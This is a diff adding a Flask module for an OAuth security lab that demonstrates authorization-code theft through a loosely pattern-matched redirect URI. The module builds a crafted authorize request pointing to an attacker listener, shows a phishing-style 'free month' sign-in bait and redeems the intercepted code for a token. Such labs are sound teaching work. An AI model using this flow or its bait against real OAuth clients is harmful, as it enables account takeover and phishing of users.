@@ -1,0 +1,87 @@
+"""Lab "redirect-uri": a pattern-matched redirect URI that the attacker's address
+also matches (RFC 9700 §4.1); exact matching refuses it."""
+
+from __future__ import annotations
+
+import base64
+import hashlib
+import secrets
+from urllib.parse import urlencode
+
+from flask import Config
+from flask import Response
+from flask import redirect
+from flask import request
+
+from ..exchange import Exchange
+from ..exchange import Message
+from ..runner.capture import exchange_of
+from . import client
+from .catalogue import Lab
+from .store import Run
+
+
+def _listener(run: Run, config: Config) -> str:
+    """The attacker's redirect URI: under the pattern, on 127.0.0.2."""
+    return f"{config['LABS_ATTACKER_URL']}/labs/{run.lab}/{run.id}/as/callback"
+
+
+def _crafted(run: Run, lab: Lab, config: Config) -> str:
+    """The client's real id, the attacker's redirect URI, state and challenge."""
+    verifier = run.attacker.setdefault("verifier", secrets.token_urlsafe(48))
+    challenge = base64.urlsafe_b64encode(
+        hashlib.sha256(verifier.encode()).digest()).decode().rstrip("=")
+    params = {**client.authorize_params(run, config, secrets.token_urlsafe(24)),
+              "redirect_uri": _listener(run, config), "code_challenge": challenge,
+              "code_challenge_method": "S256"}
+    return (run.origin + client.issuer_path(run, lab) + "/authorize?"
+            + urlencode(params))
+
+
+def serve(run: Run, lab: Lab, endpoint: str, config: Config) -> Response:
+    """``go``: the bait sends the browser to the crafted request; ``callback``:
+    the code arrives, and the attacker redeems it at once (RFC 6749 §4.1.3)."""
+    if endpoint == "go":
+        url = _crafted(run, lab, config)
+        answer = Message("HTTP/1.1 302 Found", [("Location", url)])
+        run.record("crafted", "attacker", "front", Exchange(
+            client.received().request, answer, url=request.url))
+        return redirect(url, 302)
+    if endpoint != "callback":
+        return Response("Not found", 404)
+    run.record("intercepted", "attacker", "front", client.received())
+    code = request.args.get("code")
+    if code and not run.entries("attacker-token"):
+        form = {"grant_type": "authorization_code", "code": code,
+                "redirect_uri": _listener(run, config),
+                "code_verifier": run.attacker.get("verifier", "")}
+        session, response = client.token_request(run, lab, config, form)
+        run.record("attacker-token", "attacker", "back",
+                   exchange_of(session, response))
+        if response.ok:
+            client.call_me(run, config, response.json()["access_token"],
+                           key="attacker-me", actor="attacker")
+    return redirect(f"/labs/{run.lab}/{run.id}", 303)
+
+
+def attacker_view(run: Run, lab: Lab) -> dict:
+    """The bait, or what the attacker got with the code."""
+    token = run.entries("attacker-token")
+    if token and token[-1].exchange.response is not None:
+        answer = token[-1].exchange.response
+        return {"heading": "Alice's code arrived here",
+                "text": "The attacker redeemed it. The token endpoint answered:",
+                "shown": answer.start_line + "\n\n" + answer.pretty_body()}
+    return {"heading": "Try TrackTally's new web player",
+            "text": "Sign in with your music account to get a month free.",
+            "link": f"/labs/{run.lab}/{run.id}/as/go",
+            "link_text": "Sign in to TrackTally"}
+
+
+def succeeded(run: Run) -> bool | None:
+    """On the wire: did the attacker's token request get tokens? False once the
+    victim followed the bait and no code came back; None before."""
+    token = run.entries("attacker-token")
+    if token and token[-1].exchange.response is not None:
+        return token[-1].exchange.response.start_line.split(" ")[1] == "200"
+    return False if run.entries("crafted") else None
